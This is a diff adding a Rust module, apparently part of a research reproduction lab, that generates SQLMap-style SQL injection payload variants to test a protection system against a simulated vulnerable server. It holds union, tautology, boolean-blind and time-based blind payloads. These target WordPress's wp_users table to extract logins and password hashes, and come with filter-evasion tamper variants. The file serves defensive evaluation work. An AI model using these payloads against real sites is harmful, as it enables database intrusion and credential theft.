@@ -1,0 +1,265 @@
+//! SQLMap-style payload-variant generation (§V-A, Table II).
+//!
+//! "We used a powerful penetration tool (SQLMap) on four of the 50
+//! plugins. … On average, SQLMap generated 40 valid attack payloads for
+//! each plugin." This module reproduces that behaviour the way SQLMap
+//! itself works: enumerate candidate payloads from technique templates and
+//! boundary/tamper combinations, fire each at the *unprotected*
+//! application, and keep only those whose attack effect is observable.
+
+use crate::corpus::{AttackType, Exploit, VulnPlugin};
+use crate::verify::exploit_effect_observed;
+use joza_webapp::server::Server;
+
+/// Generates candidate exploit variants for a plugin (unvalidated).
+pub fn candidate_payloads(plugin: &VulnPlugin) -> Vec<Exploit> {
+    let mut out = Vec::new();
+    match (&plugin.attack_type, &plugin.exploit) {
+        (AttackType::UnionBased, Exploit::Leak { payload, leak_marker }) => {
+            for variant in union_variants(payload) {
+                out.push(Exploit::Leak { payload: variant, leak_marker: leak_marker.clone() });
+            }
+        }
+        (AttackType::Tautology, Exploit::Leak { payload, leak_marker }) => {
+            for variant in tautology_variants(payload, plugin) {
+                out.push(Exploit::Leak { payload: variant, leak_marker: leak_marker.clone() });
+            }
+        }
+        (_, Exploit::BooleanDiff { true_payload, false_payload }) => {
+            for (t, f) in boolean_variants(true_payload, false_payload, plugin) {
+                out.push(Exploit::BooleanDiff { true_payload: t, false_payload: f });
+            }
+        }
+        (_, Exploit::TimingDiff { slow_payload, fast_payload, min_delay_ms }) => {
+            for (s, f) in timing_variants(slow_payload, fast_payload) {
+                out.push(Exploit::TimingDiff {
+                    slow_payload: s,
+                    fast_payload: f,
+                    min_delay_ms: *min_delay_ms,
+                });
+            }
+        }
+        _ => out.push(plugin.exploit.clone()),
+    }
+    dedup(out)
+}
+
+/// Generates up to `target` *valid* payload variants: candidates whose
+/// attack effect is observable against the unprotected server.
+pub fn valid_payloads(server: &mut Server, plugin: &VulnPlugin, target: usize) -> Vec<Exploit> {
+    let mut out = Vec::new();
+    for cand in candidate_payloads(plugin) {
+        if exploit_effect_observed(server, plugin, &cand, None) {
+            out.push(cand);
+            if out.len() >= target {
+                break;
+            }
+        }
+    }
+    out
+}
+
+/// Textual tampers shared by all techniques, mirroring SQLMap's tamper
+/// scripts (case mangling, whitespace alternatives, comment suffixes).
+fn tampers(payload: &str) -> Vec<String> {
+    let mut out = vec![payload.to_string()];
+    out.push(payload.to_lowercase());
+    out.push(mixed_case(payload));
+    out.push(payload.replace(' ', "\t"));
+    out.push(payload.replace("UNION SELECT", "UNION ALL SELECT"));
+    out.push(payload.replace("-- -", "#"));
+    out.push(format!("{payload} "));
+    out
+}
+
+fn mixed_case(s: &str) -> String {
+    s.chars()
+        .enumerate()
+        .map(|(i, c)| if i % 2 == 0 { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() })
+        .collect()
+}
+
+fn union_variants(primary: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    // Column-content variants: swap the leaked column expressions.
+    let bases = vec![
+        primary.to_string(),
+        primary.replace("user_login, user_pass", "user_pass, user_login"),
+        primary.replace("user_pass", "CONCAT(user_login, 0x3a, user_pass)"),
+        primary.replace("user_pass", "CONCAT_WS(CHAR(58), user_login, user_pass)"),
+        primary.replace("-1", "0"),
+        primary.replace("-1", "999999"),
+        primary.replace("FROM wp_users", "FROM wp_users WHERE ID=1"),
+        primary.replace("FROM wp_users", "FROM wp_users ORDER BY ID LIMIT 1"),
+        primary.replace("FROM wp_users", "FROM wp_users LIMIT 1"),
+    ];
+    for b in bases {
+        out.extend(tampers(&b));
+    }
+    out
+}
+
+fn tautology_variants(primary: &str, plugin: &VulnPlugin) -> Vec<String> {
+    let mut out = Vec::new();
+    let is_b64 = plugin.param == "track" && plugin.benign_value.ends_with('=');
+    // The primary payload is already in delivery form (possibly encoded).
+    out.push(primary.to_string());
+    let raw_bases = vec![
+        "1 OR 1=1".to_string(),
+        "1 OR 2>1".to_string(),
+        "1 OR 1=1-- -".to_string(),
+        "1 OR 3 BETWEEN 1 AND 5".to_string(),
+        "1 OR 1 LIKE 1".to_string(),
+        "0 OR NOT 1=2".to_string(),
+        "1 OR 1=1 OR 1=1".to_string(),
+        "9 OR 9=9".to_string(),
+    ];
+    for b in raw_bases {
+        for t in tampers(&b) {
+            if is_b64 {
+                out.push(joza_phpsim::builtins::base64_encode(t.as_bytes()));
+            } else {
+                out.push(t);
+            }
+        }
+    }
+    out
+}
+
+fn boolean_variants(true_p: &str, false_p: &str, plugin: &VulnPlugin) -> Vec<(String, String)> {
+    let mut out = vec![(true_p.to_string(), false_p.to_string())];
+    let quoted = plugin.param == "name";
+    if quoted {
+        // Quoted-context pairs keep the original breakout structure and
+        // vary only the predicate.
+        for (t, f) in [
+            (">32", ">200"),
+            (">=1", ">=250"),
+            ("<200", "<1"),
+        ] {
+            out.push((true_p.replace(">32", t), false_p.replace(">200", f)));
+        }
+    } else {
+        let benign = &plugin.benign_value;
+        let pairs = [
+            ("AND 1=1", "AND 1=2"),
+            ("AND 2>1", "AND 2<1"),
+            ("AND 5 BETWEEN 1 AND 9", "AND 5 BETWEEN 6 AND 9"),
+            ("AND 1 LIKE 1", "AND 1 LIKE 2"),
+            ("AND 3=3", "AND 3=4"),
+            ("AND NOT 1=2", "AND NOT 1=1"),
+            ("AND (SELECT COUNT(*) FROM wp_users)>0", "AND (SELECT COUNT(*) FROM wp_users)>999"),
+            (
+                "AND ASCII(SUBSTRING((SELECT user_pass FROM wp_users WHERE ID=1),1,1))>32",
+                "AND ASCII(SUBSTRING((SELECT user_pass FROM wp_users WHERE ID=1),1,1))>250",
+            ),
+            (
+                "AND LENGTH((SELECT user_pass FROM wp_users WHERE ID=1))>3",
+                "AND LENGTH((SELECT user_pass FROM wp_users WHERE ID=1))>500",
+            ),
+            ("OR 1=1", "AND 1=2"),
+        ];
+        for (t, f) in pairs {
+            out.push((format!("{benign} {t}"), format!("{benign} {f}")));
+        }
+    }
+    // Case/whitespace tampers applied to both sides in lockstep.
+    let mut tampered = Vec::new();
+    for (t, f) in &out {
+        tampered.push((t.to_lowercase(), f.to_lowercase()));
+        tampered.push((t.replace(' ', "\t"), f.replace(' ', "\t")));
+        tampered.push((mixed_case(t), mixed_case(f)));
+    }
+    out.extend(tampered);
+    out
+}
+
+fn timing_variants(slow: &str, fast: &str) -> Vec<(String, String)> {
+    let mut out = vec![(slow.to_string(), fast.to_string())];
+    out.push((slow.replace("SLEEP(2)", "SLEEP(3)"), fast.replace("SLEEP(2)", "SLEEP(3)")));
+    out.push((
+        slow.replace("SLEEP(2)", "BENCHMARK(20000000,MD5(1))"),
+        fast.replace("SLEEP(2)", "BENCHMARK(20000000,MD5(1))"),
+    ));
+    out.push(("1 AND SLEEP(2)".to_string(), "1 AND SLEEP(0)".to_string()));
+    out.push((
+        "1 AND IF(1=1,SLEEP(2),0)".to_string(),
+        "1 AND IF(1=2,SLEEP(2),0)".to_string(),
+    ));
+    out.push((
+        "1 AND IF(ASCII(SUBSTRING((SELECT user_pass FROM wp_users WHERE ID=1),1,1))>32,SLEEP(2),0)".to_string(),
+        "1 AND IF(ASCII(SUBSTRING((SELECT user_pass FROM wp_users WHERE ID=1),1,1))>250,SLEEP(2),0)".to_string(),
+    ));
+    out.push((
+        "1 AND IF((SELECT COUNT(*) FROM wp_users)>0,SLEEP(2),0)".to_string(),
+        "1 AND IF((SELECT COUNT(*) FROM wp_users)>999,SLEEP(2),0)".to_string(),
+    ));
+    out.push((
+        "1 OR IF(1=1,SLEEP(2),0)".to_string(),
+        "1 OR IF(1=2,SLEEP(2),0)".to_string(),
+    ));
+    out.push((
+        "1 AND IF(LENGTH((SELECT user_pass FROM wp_users WHERE ID=1))>3,SLEEP(2),0)".to_string(),
+        "1 AND IF(LENGTH((SELECT user_pass FROM wp_users WHERE ID=1))>500,SLEEP(2),0)".to_string(),
+    ));
+    out.push((
+        "1 AND (SELECT IF(1=1,SLEEP(2),0))".to_string(),
+        "1 AND (SELECT IF(1=2,SLEEP(2),0))".to_string(),
+    ));
+    out.push((
+        "1 AND SLEEP(2)-- -".to_string(),
+        "1 AND SLEEP(0)-- -".to_string(),
+    ));
+    let mut tampered = Vec::new();
+    for (s, f) in &out {
+        tampered.push((s.to_lowercase(), f.to_lowercase()));
+        tampered.push((s.replace(' ', "\t"), f.replace(' ', "\t")));
+        tampered.push((mixed_case(s), mixed_case(f)));
+    }
+    out.extend(tampered);
+    out
+}
+
+fn dedup(v: Vec<Exploit>) -> Vec<Exploit> {
+    let mut seen = Vec::new();
+    let mut out = Vec::new();
+    for e in v {
+        let key = format!("{e:?}");
+        if !seen.contains(&key) {
+            seen.push(key);
+            out.push(e);
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::build_lab;
+
+    #[test]
+    fn candidates_are_plentiful_and_unique() {
+        for p in crate::corpus::corpus().iter().take(8) {
+            let c = candidate_payloads(p);
+            assert!(c.len() >= 20, "{}: only {} candidates", p.name, c.len());
+        }
+    }
+
+    #[test]
+    fn four_representative_plugins_yield_valid_variants() {
+        // The paper runs SQLMap on one plugin per attack type.
+        let mut lab = build_lab();
+        use crate::corpus::AttackType::*;
+        for ty in [UnionBased, StandardBlind, DoubleBlind, Tautology] {
+            let plugin = lab.plugins.iter().find(|p| p.attack_type == ty).unwrap().clone();
+            let valid = valid_payloads(&mut lab.server, &plugin, 40);
+            assert!(
+                valid.len() >= 15,
+                "{} ({ty:?}): only {} valid variants",
+                plugin.name,
+                valid.len()
+            );
+        }
+    }
+}
